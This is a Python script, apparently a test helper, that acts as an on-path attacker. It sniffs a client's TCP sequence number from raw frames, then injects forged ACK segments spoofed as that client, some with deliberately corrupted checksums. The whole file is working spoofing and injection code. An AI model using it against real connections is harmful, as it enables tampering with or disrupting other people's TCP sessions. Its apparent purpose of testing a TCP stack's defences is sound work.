# forge.py IFACE SRC SPORT DST DPORT GO KIND:DSEQ:DACK...
#
# An attacker next to the client: sniffs the client's first segment with
# data (its request) on IFACE (AF_PACKET) for the sequence number that
# follows it, waits for the file GO to appear, reads the acknowledgment
# number ACK from it, then sends, from a raw socket, TCP ACKs spoofed as
# SRC:SPORT -> DST:DPORT. KIND is "ok" (a good checksum) or "badsum"; DSEQ
# is added to the client's sequence number, DACK to ACK. Prints
# "listening" once it sniffs, then the client sequence number it used.
import os
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def client_seq(iface, src, sport):
    # ETH_P_ALL: only those taps see outgoing frames.
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind((iface, 0))
    s.settimeout(20)
    print("listening", flush=True)
    while True:
        f = s.recv(65535)
        ip = f[14:]
        if f[12:14] != b"\x08\x00" or ip[9] != 6 or socket.inet_ntoa(ip[12:16]) != src:
            continue
        ihl = (ip[0] & 15) * 4
        tcp = ip[ihl:]
        if struct.unpack("!H", tcp[0:2])[0] != sport:
            continue
        data = struct.unpack("!H", ip[2:4])[0] - ihl - (tcp[12] >> 4) * 4
        if data > 0:
            return (struct.unpack("!I", tcp[4:8])[0] + data) % 2**32


def segment(src, sport, dst, dport, seq, ack, bad):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, 0x10, 500, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    c = csum(pseudo + tcp) ^ (0x5A5A if bad else 0)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + tcp


def main():
    iface, src, sport, dst, dport, go = sys.argv[1:7]
    sport, dport = int(sport), int(dport)
    seq = client_seq(iface, src, sport)
    for _ in range(600):
        if os.path.exists(go) and open(go).read().strip():
            break
        time.sleep(0.05)
    ack = int(open(go).read())
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for spec in sys.argv[7:]:
        kind, dseq, dack = spec.split(":")
        out.sendto(segment(src, sport, dst, dport, (seq + int(dseq)) % 2**32,
                           (ack + int(dack)) % 2**32, kind == "badsum"), (dst, 0))
    print(seq)


main()
